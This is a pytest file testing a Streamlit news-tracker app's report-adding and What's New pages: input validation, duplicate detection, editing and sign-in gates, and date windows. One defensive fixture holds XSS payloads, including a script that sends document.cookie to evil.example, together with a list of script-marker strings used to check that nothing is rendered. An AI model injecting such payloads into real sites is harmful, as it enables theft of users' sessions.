"""Add a report and What's new in AppTest: bad input gets a plain message and writes nothing, the
duplicate is named first, saving needs editing switched on, and a report dated today added as one
file shows on every page with "latest report" moved to today."""

from __future__ import annotations

import datetime as dt
import shutil
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from components.registry import BY_ID, PAGES
from data.changes import default_window, known_since
from data.load import load_seeds
from tests.conftest import SIGN_IN_SECRETS, forget_added_dates

ROOT = Path(__file__).resolve().parents[2]
APP = str(ROOT / "app.py")
ARTICLE = ROOT / "tests" / "fixtures" / "articles" / "02-business-times-75k-cap.txt"
HOSTILE_HTML = """<html><head><title>Nvidia H200 <script>alert(1)</script></title>
<script>document.location='https://evil.example/?c='+document.cookie</script></head>
<body onload="alert(2)"><article><h1>US weighs H200 cap <img src=x onerror=alert(3)></h1>
<p>Washington is weighing a cap of 75,000 Nvidia H200 chips per Chinese customer, people said.
<script>alert(4)</script><a href="javascript:alert(5)">more</a></p>
<p>Alibaba and ByteDance had each asked Nvidia for <b>**more**</b> than that, $x$ [link](javascript:alert(6)).</p>
<iframe src="https://evil.example"></iframe></article></body></html>"""


@pytest.fixture
def scratch_seeds(tmp_path, monkeypatch) -> Path:
    seeds = tmp_path / "seeds"
    shutil.copytree(ROOT / "seeds", seeds)
    forget_added_dates(seeds)
    monkeypatch.setenv("H200_SEEDS_DIR", str(seeds))
    return seeds


def _files(seeds: Path) -> list[str]:
    return sorted(p.name for p in (seeds / "sources").iterdir())


def _open(page_id: str, params: dict[str, str] | None = None) -> AppTest:
    at = AppTest.from_file(APP, default_timeout=90)
    at.run()
    for key, value in (params or {}).items():
        at.query_params[key] = value
    at.switch_page(BY_ID[page_id].path).run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def _paste(at: AppTest, text: str) -> AppTest:
    at.text_area(key="ar_text").set_value(text)
    next(b for b in at.button if b.label == "Draft from this report").click().run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def _all_text(at: AppTest) -> str:
    parts = [
        e.value for kind in ("markdown", "caption", "error", "warning", "info", "success", "text") for e in at.get(kind)
    ]
    return "\n".join(str(p) for p in parts)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", "The text is empty"),
        ("   \n\n  ", "The text is empty"),
        ("x " * 150_000, "the drafter reads at most 200 kB"),
        ("Title: a\n\nsome\x00binary\x00text here", "binary data"),
    ],
    ids=["empty", "blank", "over-limit", "nul"],
)
def test_bad_paste_gets_a_message_and_writes_nothing(scratch_seeds, monkeypatch, text, message) -> None:
    monkeypatch.setenv("H200_EDITING", "1")
    before = _files(scratch_seeds)
    at = _paste(_open("add_report"), text)
    errors = " ".join(e.value for e in at.error)
    assert message in errors
    assert "Nothing was drafted or written." in _all_text(at)
    assert not any(b.label == "Save into seeds/" for b in at.button)
    assert _files(scratch_seeds) == before


def test_script_laden_html_is_never_rendered(scratch_seeds, monkeypatch) -> None:
    monkeypatch.setenv("H200_EDITING", "1")
    before = _files(scratch_seeds)
    at = _paste(_open("add_report"), HOSTILE_HTML)
    shown = _all_text(at)
    for needle in ("<script", "javascript:", "onerror", "<iframe", "onload"):
        assert needle not in shown.lower(), needle
    # the only st.html on the page is the app's own layout CSS: nothing of the pasted page reaches it
    for element in at.get("html"):
        body = str(element.proto).lower()
        assert all(needle not in body for needle in ("<script", "javascript:", "onerror", "<iframe", "onload"))
    base = at.session_state["ar_claims_base"]
    assert all("<script" not in str(s) for s in base["sentence"])
    assert _files(scratch_seeds) == before


def test_duplicate_is_named_first_and_the_empty_summaries_block_the_save(scratch_seeds, monkeypatch) -> None:
    monkeypatch.setenv("H200_EDITING", "1")
    before = _files(scratch_seeds)
    at = _paste(_open("add_report"), ARTICLE.read_text())
    warnings = [w.value for w in at.warning]
    assert any("Possibly already in the tracker" in w and "Bloomberg, 03 Mar 2026" in w for w in warnings)
    subheaders = [s.value for s in at.subheader]
    assert subheaders.index("1 · Is it already in the tracker?") < subheaders.index("3 · Candidate claims")
    problems = " ".join(t.value for t in at.text)
    assert "Claim 1, summary: the summary is still empty" in problems
    save = next(b for b in at.button if b.label == "Save into seeds/")
    assert save.disabled
    at.radio(key="ar_mode").set_value("2026-03-03-bloomberg-us-weighs-75k-h200-cap").run()
    snippet = " ".join(c.value for c in at.code)
    assert "carried_by:" in snippet and "outlet: Business Times" in snippet
    assert "bt-0303.small-number" in snippet and "bt-0303.cap-75-000" not in snippet  # only the new claim
    assert _files(scratch_seeds) == before


def test_a_re_carry_the_check_misses_can_be_named_by_hand(scratch_seeds, monkeypatch) -> None:
    """The analyst names a source the check did not offer: the report becomes its carrier, with
    only the claims whose figures that source lacks; taking the pick back goes back to a new source."""
    monkeypatch.setenv("H200_EDITING", "1")
    before = _files(scratch_seeds)
    at = _paste(_open("add_report"), ARTICLE.read_text())
    draft = at.session_state["ar_draft"]
    listed = {d.source_id for d in [*draft.duplicates, *draft.weaker]}
    picker = at.selectbox(key="ar_named_source")
    target = "2026-01-14-reuters-china-customs-blocks-h200"
    assert target not in listed
    assert any("Reuters, 14 Jan 2026" in str(o) for o in picker.options)  # outlet, date and title to search by
    picker.set_value(target).run()
    assert not at.exception, [e.value for e in at.exception]
    assert at.radio(key="ar_mode").value == target  # naming it chooses it
    assert any("(named by you)" in str(o) for o in at.radio(key="ar_mode").options)
    snippet = " ".join(c.value for c in at.code)
    assert "carried_by:" in snippet and "outlet: Business Times" in snippet and target in snippet
    assert "bt-0303.cap-75-000" in snippet  # a figure the named source does not give is new to it
    at.selectbox(key="ar_named_source").set_value("").run()
    assert at.radio(key="ar_mode").value == "As a new source"
    assert _files(scratch_seeds) == before


def test_weaker_matches_are_listed_for_a_look(scratch_seeds, monkeypatch) -> None:
    """Sources scored under the bar are listed apart from the offered ones, each with its score and why."""
    monkeypatch.setenv("H200_EDITING", "1")
    text = (
        ROOT / "tests/fixtures/real_articles/351-notebookcheck-nvidia-q2-revenue-up-56-no-h20-china.txt"
    ).read_text()
    at = _paste(_open("add_report"), text.partition("\n---\n")[2])
    draft = at.session_state["ar_draft"]
    assert draft.weaker and not {d.source_id for d in draft.weaker} & {d.source_id for d in draft.duplicates}
    expander = next(e for e in at.expander if e.label.startswith("Weaker matches ("))
    shown = " ".join(m.value for m in expander.markdown)
    seeds = load_seeds(scratch_seeds)
    assert all(seeds.sources[d.source_id].publisher.split(" (")[0] in shown for d in draft.weaker)
    assert "match " in shown and "Why:" in shown
    offered = [str(o) for o in at.radio(key="ar_mode").options]
    assert any("(a weaker match)" in o for o in offered)
    at.selectbox(key="ar_named_source").set_value(draft.weaker[0].source_id).run()  # found by name too
    assert at.radio(key="ar_mode").value == draft.weaker[0].source_id
    assert len(at.radio(key="ar_mode").options) == len(offered)  # chosen, not listed twice


def test_without_editing_there_is_no_save(scratch_seeds, monkeypatch) -> None:
    monkeypatch.delenv("H200_EDITING", raising=False)
    at = _paste(_open("add_report"), ARTICLE.read_text())
    assert not any(b.label == "Save into seeds/" for b in at.button)
    assert "Saving is switched off on this server." in _all_text(at)
    assert any(b.label == "Download YAML" for b in at.get("download_button"))


TODAY = dt.date.today()
TODAYS_REPORT = f"""source:
  id: {TODAY.isoformat()}-today-wire-deepseek-paused
  title: Today Wire says DeepSeek's H200 purchases are on hold
  publisher: Today Wire
  published: {TODAY.isoformat()}
  kind: wire
  accessed: {TODAY.isoformat()}
  added: {TODAY.isoformat()}
  reliability: Written for the test that adds a report dated today.
  confidence: high
claims:
  - id: tw-today.deepseek-paused
    kind: import_approval
    date: {TODAY.isoformat()}
    actors: [deepseek]
    product: h200
    side: China
    status: paused
    stage: cn_paused
    attribution: {{type: anonymous_sources, sources_cited: 2}}
    summary: A marker claim, dated today, that DeepSeek's purchases were put on hold.
"""


@pytest.mark.parametrize("page", PAGES, ids=[p.page_id for p in PAGES])
def test_a_report_dated_today_shows_on_every_page(scratch_seeds, page) -> None:
    (scratch_seeds / "sources" / f"{TODAY.isoformat()}-today-wire-deepseek-paused.yaml").write_text(TODAYS_REPORT)
    at = _open(page.page_id)
    status = " ".join(m.value for m in at.markdown)
    assert f"latest report **{TODAY:%d %b %Y}**" in status
    assert f"Data as of **{TODAY:%d %b %Y}**" in status
    assert at.date_input(key="as_of").value == TODAY
    assert not at.error, [e.value for e in at.error]  # no seed problem banner
    if page.page_id == "overview":
        assert "A marker claim, dated today" in status  # "Latest events"
    if page.page_id == "whats_new":  # today's report, and whatever else the scratch archive dates this week
        since, until = default_window()
        seeds = load_seeds(scratch_seeds)
        expected = sum(since <= known_since(source) <= until for source in seeds.sources.values())
        assert f"New reports ({expected})" in [s.value for s in at.subheader]
        assert TODAY.isoformat() + "-today-wire-deepseek-paused" in known_this_week(seeds, since, until)


def test_whats_new_link_dates_and_bad_dates(scratch_seeds) -> None:
    at = _open("whats_new", {"since": "2026-01-20", "until": "2026-01-31"})
    assert at.date_input(key="since").value == dt.date(2026, 1, 20)
    assert "New reports (8)" in [s.value for s in at.subheader]
    bad = _open("whats_new", {"since": "2026-99-01"})
    notices = " ".join(i.value for i in bad.info)
    assert "Ignored `since=2026-99-01`" in notices


def test_whats_new_empty_window_says_so_and_offers_the_latest_week(scratch_seeds) -> None:
    at = _open("whats_new", {"mode": "What the tracker learned"})  # the editors' view: by date added
    assert "Nothing was added between" in " ".join(i.value for i in at.info)
    assert "New reports (0)" in [s.value for s in at.subheader]
    next(b for b in at.button if b.label.startswith("Show the week up to")).click().run()
    assert not at.exception
    counts = [s.value for s in at.subheader if s.value.startswith("New reports (")]
    assert counts and counts[0] != "New reports (0)"


BRIEFING = """briefing:
  id: whats-new-check
  title: "What changed in late January"
  as_of: 2026-06-05
  steps:
    - page: overview
      caption: Where things stood in June.
      params: {as_of: "2026-06-05"}
    - page: whats_new
      caption: Late January brought Beijing's first batch and a new disagreement.
      params: {as_of: "2026-06-05", since: "2026-01-20", until: "2026-01-31"}
"""


def test_whats_new_works_as_a_briefing_step(scratch_seeds) -> None:
    (scratch_seeds / "briefings" / "whats-new-check.yaml").write_text(BRIEFING)
    at = _open("whats_new", {"briefing": "whats-new-check", "step": "2"})
    assert not at.exception
    assert at.session_state["since"] == dt.date(2026, 1, 20)
    assert "New reports (8)" in [s.value for s in at.subheader]
    assert any("step 2 of 2" in m.value for m in at.markdown)


def known_this_week(seeds, since: dt.date, until: dt.date) -> set[str]:
    return {key for key, source in seeds.sources.items() if since <= known_since(source) <= until}


@pytest.mark.parametrize(("email", "drafts"), [("bo@example.com", False), ("ana@example.com", True)])
def test_with_sign_in_only_editors_can_draft(scratch_seeds, monkeypatch, email, drafts) -> None:
    monkeypatch.setenv("H200_EDITING", "1")
    at = AppTest.from_file(APP, default_timeout=90)
    at.secrets = SIGN_IN_SECRETS
    at.user = {
        "is_logged_in": True,
        "iss": "http://127.0.0.1:9400",
        "email": email,
        "email_verified": True,
        "sub": email.split("@")[0],
    }
    at.run()
    at.switch_page(BY_ID["add_report"].path).run()
    assert not at.exception, [e.value for e in at.exception]
    has_form = any(b.label == "Draft from this report" for b in at.button)
    assert has_form is drafts
    if not drafts:
        assert "for the tracker's editors" in _all_text(at)


def test_changing_the_web_address_in_the_form_reruns_the_duplicate_check(scratch_seeds, monkeypatch) -> None:
    monkeypatch.setenv("H200_EDITING", "1")
    text = "Title: Chip note\n\nNvidia shares moved on Tuesday after a report about H200 chips and China."
    at = _paste(_open("add_report"), text)
    assert not [w for w in at.warning if "Possibly already in the tracker" in w.value]
    source = load_seeds(scratch_seeds).sources["2026-03-03-bloomberg-us-weighs-75k-h200-cap"]
    at.text_input(key="ar_src_url").set_value(source.url).run()
    assert not at.exception, [e.value for e in at.exception]
    named = [w.value for w in at.warning if "Possibly already in the tracker" in w.value]
    assert named and "Bloomberg, 03 Mar 2026" in named[0] and "Same web address" in named[0]
    assert any("As another outlet carrying the Bloomberg report" in str(o) for o in at.radio[0].options)
